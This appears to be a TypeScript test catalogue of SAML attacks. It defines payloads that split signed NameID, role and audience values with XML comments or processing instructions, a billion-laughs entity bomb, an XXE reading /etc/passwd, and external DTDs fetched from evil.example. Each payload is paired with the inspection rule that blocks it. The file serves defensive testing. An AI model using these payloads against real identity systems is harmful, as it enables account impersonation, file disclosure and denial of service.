/** Comments, processing instructions and document types: what is no element, and yet changes what a reader sees. */

import { type Attack, admits, byRule, next } from "./attack.ts";
import { AS_EVE, before, eves, evesWith, SAML, swap } from "./ingredients.ts";

const withDoctype = (subset: string) => `<!DOCTYPE samlp:Response ${subset}>${eves()}`;

/** Eve owns the address on the left, or can register it: what is put in is signed with her name. */
const inNameId = (text: string) =>
  evesWith((draft) => {
    const { assertion, edits } = draft;
    if (assertion?.nameId) assertion.nameId.value = "ada@acme.example.evil.example";
    edits.finished.push((xml) => swap(xml, "ada@acme.example.evil.example<", `ada@acme.example${text}.evil.example<`));
  });

const LAUGHS = Array.from({ length: 9 }, (_, index) => {
  const content = index === 0 ? "ha" : `&l${index - 1};`.repeat(10);
  return `<!ENTITY l${index} "${content}">`;
}).join("");

export const COMMENTS_AND_ENTITIES: readonly Attack[] = [
  {
    name: "comment-in-name-id",
    description:
      "A comment cuts the signed NameID in two: canonicalization drops it, readers of the first text node stop there",
    reference: "CVE-2017-11427 (python3-saml) and family",
    build: () => ({ xml: inNameId("<!---->") }),
    stoppedBy: byRule("no-comments", "comment", "comment"),
    behindIt: admits("acme: ada@acme.example.evil.example"),
    withoutInspection: admits("acme: ada@acme.example.evil.example"),
  },
  {
    name: "comment-in-a-role",
    description: "A comment cuts a signed attribute value in two",
    reference: "CVE-2017-11427 family",
    build: () => ({
      xml: evesWith(({ assertion, edits }) => {
        assertion?.attributes.push({
          name: "roles",
          friendlyName: null,
          style: "plain",
          values: ["administrative-staff"],
        });
        edits.finished.push((xml) => swap(xml, "administrative", "admin<!---->istrative"));
      }),
    }),
    stoppedBy: byRule("no-comments", "comment", "comment"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
  {
    name: "comment-in-the-audience",
    description: "A comment cuts the signed audience of another service down to this one's name",
    reference: "CVE-2017-11427 family",
    build: () => ({
      xml: eves({
        audience: "https://sp.example.test/saml/metadata.evil.example",
        change: ({ edits }) =>
          edits.finished.push((xml) => swap(xml, "metadata.evil.example<", "metadata<!---->.evil.example<")),
      }),
    }),
    stoppedBy: byRule("no-comments", "comment", "comment"),
    behindIt: next("check-conditions", "audience", "audience"),
    withoutInspection: next("check-conditions", "audience", "audience"),
  },
  {
    name: "comment-around-the-document",
    description: "A comment stands in front of the document",
    reference: null,
    build: () => ({ xml: `<!-- -->${eves()}` }),
    stoppedBy: byRule("no-comments", "comment", "comment"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
  {
    name: "processing-instruction-in-name-id",
    description:
      "The end of the signed NameID is turned into a processing instruction, which xml-crypto renders as text",
    reference: "CVE-2017-11427 family",
    build: () => ({
      xml: eves({ nameId: "ada@acme.example.evil.example" }).replace(
        "ada@acme.example.evil.example<",
        "ada@acme.example<?x .evil.example?><",
      ),
    }),
    stoppedBy: byRule("no-processing-instructions", "processing-instruction", "processing-instruction"),
    behindIt: next("verify-with-libxml2", "signature-invalid", "digest"),
    withoutInspection: next("verify-with-libxml2", "signature-invalid", "digest"),
  },
  {
    name: "stylesheet-instruction",
    description: "A processing instruction in front of the document names a stylesheet of Eve's",
    reference: null,
    build: () => ({ xml: `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${eves()}` }),
    stoppedBy: byRule("no-processing-instructions", "processing-instruction", "processing-instruction"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
  {
    name: "doctype",
    description: "A document type declaration, even an empty one",
    reference: "CVE-2025-25291, CVE-2025-25292 (ruby-saml)",
    build: () => ({ xml: withDoctype("[]") }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
  {
    name: "billion-laughs",
    description: "Entities that expand to gigabytes",
    reference: "CVE-2003-1564 class",
    build: () => ({
      xml: before(
        withDoctype(`[${LAUGHS}]`),
        "<samlp:Status>",
        '<samlp:Extensions><x xmlns="urn:x">&l8;</x></samlp:Extensions>',
      ),
    }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: next("inspect-xml", "malformed", "not-xml"),
    withoutInspection: next("inspect-xml", "malformed", "not-xml"),
  },
  {
    name: "external-entity-of-a-file",
    description: "An entity reads a file into the message",
    reference: "CWE-611",
    build: () => ({
      xml: before(
        withDoctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'),
        "<samlp:Status>",
        '<samlp:Extensions><x xmlns="urn:x">&x;</x></samlp:Extensions>',
      ),
    }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: next("validate-schema", "dependency-unavailable", "schema-validator"),
    withoutInspection: next("validate-schema", "dependency-unavailable", "schema-validator"),
  },
  {
    name: "external-parameter-entity",
    description: "A parameter entity fetches more declarations from Eve's host",
    reference: "CWE-611",
    build: () => ({ xml: withDoctype('[<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]') }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
  {
    name: "external-subset",
    description: "The document type's external subset is on Eve's host",
    reference: "CWE-611, CWE-918",
    build: () => ({ xml: withDoctype('SYSTEM "https://evil.example/x.dtd"') }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
  {
    name: "entity-in-name-id",
    description: "An entity in the signed NameID stands for a text that only one of two parsers expands",
    reference: "CVE-2025-25291 (ruby-saml)",
    build: () => ({
      xml: swap(withDoctype('[<!ENTITY x "ada">]'), "eve@acme.example</saml:NameID>", "&x;@acme.example</saml:NameID>"),
    }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: next("validate-schema", "dependency-unavailable", "schema-validator"),
    withoutInspection: next("validate-schema", "dependency-unavailable", "schema-validator"),
  },
  {
    name: "default-attribute",
    description: "A declared default gives the forged assertion the ID that was signed",
    reference: "CVE-2025-25292 (ruby-saml)",
    build: () => ({
      xml: swap(withDoctype('[<!ATTLIST saml:Assertion ID CDATA "_assertion-0001">]'), ' ID="_assertion-0001"', ""),
    }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: next("inspect-xml", "signature-structure", "reference-to-another-element"),
    withoutInspection: next("validate-schema", "schema", "not-valid"),
  },
  {
    name: "default-namespace-attribute",
    description: "A declared default binds a prefix for those parsers that read document types",
    reference: "CVE-2025-25291 (ruby-saml)",
    build: () => ({ xml: withDoctype(`[<!ATTLIST saml:NameID xmlns:saml CDATA "${SAML}">]`) }),
    stoppedBy: byRule("no-doctype", "doctype", "doctype"),
    behindIt: admits(AS_EVE),
    withoutInspection: admits(AS_EVE),
  },
];
